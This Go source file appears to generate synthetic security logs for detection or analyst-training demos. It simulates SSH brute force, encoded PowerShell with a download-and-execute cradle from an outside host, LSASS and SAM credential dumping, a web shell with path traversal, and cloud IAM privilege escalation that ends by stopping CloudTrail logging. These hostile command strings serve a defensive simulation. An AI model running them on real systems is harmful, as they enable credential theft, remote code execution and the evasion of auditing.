package demo

import (
	"encoding/json"
	"fmt"
	"time"
)

func (p *Player) sshBruteForce(at time.Time) []json.RawMessage {
	host, from := pick(p, servers), p.outsider()
	var records []json.RawMessage
	for i := range 12 {
		user := pick(p, []string{"root", "root", "invalid user oracle", "invalid user admin"})
		records = append(records, journal(at.Add(time.Duration(i-30)*time.Second), host, "sshd", fmt.Sprintf("Failed password for %s from %s port %d ssh2", user, from, 40_000+i)))
	}
	return append(records,
		journal(at.Add(-5*time.Second), host, "sshd", fmt.Sprintf("Accepted password for root from %s port 40999 ssh2", from)),
		journal(at, host, "sudo", "    root : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/bin/bash"))
}

const powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`

func (p *Player) encodedPowerShell(at time.Time) []json.RawMessage {
	i := p.r.IntN(len(people))
	host, user := workstations[i], `CORP\`+people[i]
	return []json.RawMessage{
		sysmon(at.Add(-20*time.Second), host, 1, object{"Image": powershell, "ParentImage": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "User": user,
			"CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="}),
		sysmon(at.Add(-15*time.Second), host, 1, object{"Image": powershell, "ParentImage": powershell, "User": user,
			"CommandLine": "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://" + p.outsider() + "/a.ps1')"}),
		sysmon(at, host, 13, object{"Image": powershell, "EventType": "SetValue", "TargetObject": `HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
			"Details": `C:\Users\` + people[i] + `\AppData\Roaming\updater.exe`, "User": user}),
	}
}

func (p *Player) credentialDumping(at time.Time) []json.RawMessage {
	host := pick(p, workstations)
	return []json.RawMessage{
		sysmon(at.Add(-30*time.Second), host, 10, object{"SourceImage": `C:\Users\Public\x64.exe`, "TargetImage": `C:\Windows\System32\lsass.exe`, "GrantedAccess": "0x1410"}),
		sysmon(at.Add(-20*time.Second), host, 1, object{"Image": `C:\Windows\System32\rundll32.exe`, "ParentImage": `C:\Windows\System32\cmd.exe`, "User": `NT AUTHORITY\SYSTEM`,
			"CommandLine": `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`}),
		sysmon(at, host, 1, object{"Image": `C:\Windows\System32\reg.exe`, "ParentImage": `C:\Windows\System32\cmd.exe`, "User": `NT AUTHORITY\SYSTEM`, "CommandLine": `reg save hklm\sam C:\temp\s`}),
	}
}

func (p *Player) webShell(at time.Time) []json.RawMessage {
	from := p.outsider()
	access := func(at time.Time, request string) json.RawMessage {
		return encode(object{"time_iso8601": at.UTC().Format(time.RFC3339), "hostname": "web-1", "remote_addr": from, "request": request, "status": "200", "http_user_agent": "curl/8.5"})
	}
	return []json.RawMessage{
		access(at.Add(-40*time.Second), "GET /../../etc/passwd HTTP/1.1"),
		access(at.Add(-20*time.Second), "POST /uploads/avatar.php HTTP/1.1"),
		access(at.Add(-10*time.Second), "GET /uploads/avatar.php?cmd=whoami HTTP/1.1"),
		sysmon(at, "iis-1", 1, object{"Image": `C:\Windows\System32\cmd.exe`, "ParentImage": `C:\Windows\System32\inetsrv\w3wp.exe`, "User": `IIS APPPOOL\shop`, "CommandLine": "cmd /c whoami"}),
	}
}

func (p *Player) cloudKeyMisuse(at time.Time) []json.RawMessage {
	from := p.outsider()
	return []json.RawMessage{
		cloudTrail(at.Add(-60*time.Second), "sts", "GetCallerIdentity", "ci-deploy", from, nil),
		cloudTrail(at.Add(-40*time.Second), "iam", "CreateAccessKey", "ci-deploy", from, object{"requestParameters": object{"userName": "backup"}}),
		cloudTrail(at.Add(-30*time.Second), "iam", "AttachUserPolicy", "ci-deploy", from, object{"requestParameters": object{"userName": "backup", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}),
		cloudTrail(at.Add(-10*time.Second), "ec2", "GetPasswordData", "ci-deploy", from, object{"errorCode": "Client.UnauthorizedOperation"}),
		cloudTrail(at, "cloudtrail", "StopLogging", "ci-deploy", from, nil),
	}
}

func (p *Player) hostReports(at time.Time) []json.RawMessage {
	host, stamp := pick(p, workstations), at.UTC().Format(time.RFC3339)
	return []json.RawMessage{
		encode(object{"report": "web_activity", "time": stamp, "host": host, "domain": "login-corp.example", "address": p.outsider(), "port": 443, "browser": "firefox",
			"url": "https://login-corp.example/", "score": 88, "category": "phishing", "action": "allowed"}),
		encode(object{"report": "malware", "time": stamp, "host": host, "file_path": `C:\Users\Public\invoice.exe`, "file_name": "invoice.exe", "file_size": 184_320,
			"md5": "0cc175b9c0f1b6a831c399e269772661", "sha256": "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb", "score": 94,
			"indicators": []string{"packed", "persistence"}, "process": "outlook.exe", "status": "detected"}),
		encode(object{"report": "network", "time": stamp, "host": host, "port": 4444, "open": true, "service": "unknown", "connection_count": 2, "local_address": "10.0.0.21:4444",
			"remote_address": p.outsider() + ":51515", "process": "invoice.exe", "scan_duration_ms": 140}),
	}
}

// noise is n records of an ordinary day.
func (p *Player) noise(at time.Time, n int) []json.RawMessage {
	var records []json.RawMessage
	for range n {
		at = at.Add(time.Duration(p.r.IntN(2_000)) * time.Millisecond)
		i := p.r.IntN(len(people))
		switch p.r.IntN(5) {
		case 0:
			records = append(records, journal(at, pick(p, servers), "sshd", fmt.Sprintf("Accepted publickey for %s from 10.0.0.%d port %d ssh2: ED25519 SHA256:abc", people[i], 20+i, 50_000+p.r.IntN(9_000))))
		case 1:
			records = append(records, journal(at, pick(p, servers), "CRON", "(root) CMD (/usr/local/bin/rotate-logs)"))
		case 2:
			records = append(records, sysmon(at, workstations[i], 1, object{"Image": `C:\Program Files\Mozilla Firefox\firefox.exe`, "ParentImage": `C:\Windows\explorer.exe`, "User": `CORP\` + people[i], "CommandLine": "firefox.exe"}))
		case 3:
			records = append(records, cloudTrail(at, "s3", "ListObjects", "reporting", "10.0.3.7", nil))
		default:
			records = append(records, encode(object{"time_iso8601": at.UTC().Format(time.RFC3339), "hostname": "web-1", "remote_addr": p.outsider(), "request": "GET /shop/item/" + fmt.Sprint(p.r.IntN(500)) + " HTTP/1.1", "status": "200", "http_user_agent": "Mozilla/5.0"}))
		}
	}
	return records
}
